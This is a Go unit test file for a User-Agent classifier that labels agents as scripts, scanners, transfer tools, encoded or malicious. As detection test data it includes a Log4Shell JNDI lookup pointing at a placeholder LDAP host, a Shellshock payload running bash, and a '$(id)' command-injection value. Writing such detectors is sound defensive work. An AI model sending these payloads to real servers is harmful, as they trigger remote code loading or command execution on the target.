package useragent

import (
	"os"
	"path/filepath"
	"regexp"
	"testing"
)

func TestClassify(t *testing.T) {
	c := Default()
	for _, tc := range []struct {
		ua     string
		class  Class
		family string
	}{
		{"", Empty, "no user agent"},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", Ordinary, ""},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15", Ordinary, ""},
		{"Microsoft-WebDAV-MiniRedir/10.0.18362", Ordinary, ""},
		{"Microsoft-CryptoAPI/10.0", Ordinary, ""},
		{"Debian APT-HTTP/1.3 (2.6.1)", Ordinary, ""},
		{"Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230805.001)", Ordinary, ""},
		{"Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.16299.98", Script, "PowerShell"},
		{"Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.0", Script, "PowerShell"},
		{"curl/8.5.0", Script, "curl"},
		{"Wget/1.21.4", Script, "Wget"},
		{"python-requests/2.31.0", Script, "Python"},
		{"Go-http-client/1.1", Script, "Go"},
		{"HttpBrowser/1.0", Malicious, "Atomic Red Team T1071.001 test agents"},
		{"httpbrowser/1.0", Malicious, "Atomic Red Team T1071.001 test agents"},
		{"Wget/1.9+cvs-stable (Red Hat modified)", Malicious, "Atomic Red Team T1071.001 test agents"},
		{"*<|>*", Malicious, "Atomic Red Team T1071.001 test agents"},
		{"${jndi:ldap://203.0.113.9/a}", Exploit, "Log4Shell JNDI lookup"},
		{"() { :; }; /bin/bash -c id", Exploit, "Shellshock function definition"},
		{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", Scanner, "Nmap Scripting Engine"},
		{"rclone/v1.65.0", Transfer, "rclone"},
		{"Microsoft BITS/7.8", Transfer, "BITS (bitsadmin, Start-BitsTransfer)"},
		{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", Outdated, "Internet Explorer 6 or older"},
		{"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)", Outdated, "Windows XP / 2000 / 2003"},
		{"aG9zdG5hbWU9V0lOLURDMDE7dXNlcj1hZG1pbg==", Encoded, "base64-looking"},
		{"aG9zdG5hbWU9V0lOLURDMDE7dXNlcj1hZG1pbg", Encoded, "base64-looking"},
		{"4f2a9c0e7b1d3a5c6e8f0a1b2c3d4e5f", Encoded, "hex-looking"},
		{"AbCdEfGh", Ordinary, ""},            // short
		{"Outlook-Express/7.0", Ordinary, ""}, // has a dot
		{"ab\x01cd-agent", Odd, "control characters"},
		{"1234", Odd, "no letters"},
		{"abc", Odd, "too short"},
		{"agent|$(id)", Odd, "shell or markup characters"},
	} {
		got := c.Classify(tc.ua)
		if got.Class != tc.class || got.Family != tc.family {
			t.Errorf("Classify(%q) = %v %q, want %v %q", tc.ua, got.Class, got.Family, tc.class, tc.family)
		}
	}
}

// The Atomic Red Team T1071.001 tests (malicious user agents via PowerShell, cmd and sh) must
// all be recognised.
func TestAtomicRedTeamAgents(t *testing.T) {
	path := filepath.Join("..", "..", "shared", "datasets", "atomic-red-team", "T1071.001.yaml")
	b, err := os.ReadFile(path)
	if err != nil {
		t.Skipf("real data not present (%v): the datasets folder sits beside the repository in the team's environment", err)
	}
	re := regexp.MustCompile(`(?:-UserAgent|-A) "([^"]+)"`)
	c := Default()
	n := 0
	for _, m := range re.FindAllStringSubmatch(string(b), -1) {
		n++
		if got := c.Classify(m[1]); got.Class != Malicious {
			t.Errorf("%q: %v, want malicious", m[1], got.Class)
		}
	}
	if n != 12 {
		t.Errorf("found %d user agents in %s, want 12 (4 per test)", n, path)
	}
}

func TestUserRules(t *testing.T) {
	rules, err := Parse([]byte(`
- family: our backup agent
  class: transfer
  prefix: [AcmeBackup/]
- family: harmless curl
  class: script
  exact: ["curl/7.0-internal"]
`))
	if err != nil {
		t.Fatal(err)
	}
	base, _ := Parse(defaultFile)
	c, err := New(rules, base)
	if err != nil {
		t.Fatal(err)
	}
	if m := c.Classify("AcmeBackup/2.1"); m.Class != Transfer || m.Family != "our backup agent" {
		t.Errorf("user rule not applied: %+v", m)
	}
	if _, err := Parse([]byte("- family: x\n  class: script\n  exactly: [a]\n")); err == nil {
		t.Error("unknown key accepted")
	}
	if _, err := New([]Rule{{Family: "x", Class: "evil", Exact: []string{"a"}}}); err == nil {
		t.Error("unknown class accepted")
	}
	if _, err := New([]Rule{{Family: "x", Class: "script"}}); err == nil {
		t.Error("rule without a pattern accepted")
	}
}

func TestCache(t *testing.T) {
	k := NewCache(Default())
	b := []byte("curl/8.5.0")
	ua := string(b)
	if k.Classify(ua).Class != Script || k.Classify("curl/8.5.0").Class != Script || len(k.m) != 1 {
		t.Error("cache")
	}
}
